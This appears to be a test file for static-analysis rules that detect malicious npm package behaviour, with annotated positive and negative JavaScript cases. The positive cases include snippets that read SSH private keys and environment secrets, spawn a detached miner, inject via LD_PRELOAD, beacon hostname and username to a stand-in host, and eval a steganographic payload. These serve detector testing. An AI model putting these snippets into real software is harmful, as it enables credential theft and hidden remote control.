const cp = require('child_process');
const os = require('os');
const fs = require('fs');

function hidden() {
  // ruleid: package.js.api-obfuscation
  cp['spawn']('node', ['stage2.js']);
  // ruleid: package.js.api-obfuscation
  const h = os['hostname'].call({});
  // ok: package.js.api-obfuscation
  const name = os.hostname();
  // ok: package.js.api-obfuscation
  const map = { spawn: 1 }['spawn'];
  return [h, name, map];
}

// ruleid: package.js.obfuscated
var _0x3f2a = ['log']; (function (_0x1b2c, _0x4d5e) { return _0x1b2c + _0x4d5e; })(_0x3f2a, 1);
// ok: package.js.obfuscated
var table = [0x3f2a, 0x1b2c];

function background() {
  // ruleid: package.js.detached-process
  cp.spawn(process.execPath, ['miner.js'], { detached: true, stdio: 'ignore' }).unref();
  // ok: package.js.detached-process
  cp.spawn('npm', ['run', 'build'], { stdio: 'inherit' });
}

function steal() {
  // ruleid: package.js.reads-secrets
  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
  // ruleid: package.js.reads-secrets
  const all = JSON.stringify(process.env);
  // ok: package.js.reads-secrets
  const cfg = fs.readFileSync('./config.json', 'utf8');
  return [key, all, cfg];
}

function preload() {
  // ruleid: package.js.preload-injection
  cp.exec('LD_PRELOAD=/tmp/lib.so /usr/bin/passwd');
  // ok: package.js.preload-injection
  cp.exec('ls -la');
}
module.exports = { hidden, background, steal, preload };

function beacon() {
  const https = require('https');
  const td = JSON.stringify({ hn: os.hostname(), un: os.userInfo().username });
  // ruleid: package.js.identity-beacon
  const req = https.request({ hostname: 'collector.example', method: 'POST' });
  // ok: package.js.identity-beacon
  const summary = describeRequest(td);
  req.end(summary);
}

function stego() {
  // ruleid: package.js.steganography
  const steggy = require('steggy');
  // ok: package.js.steganography
  const sharp = require('sharp');
  // ruleid: package.js.steganography
  eval(steggy.reveal()(fs.readFileSync('./x.png')));
  return sharp;
}
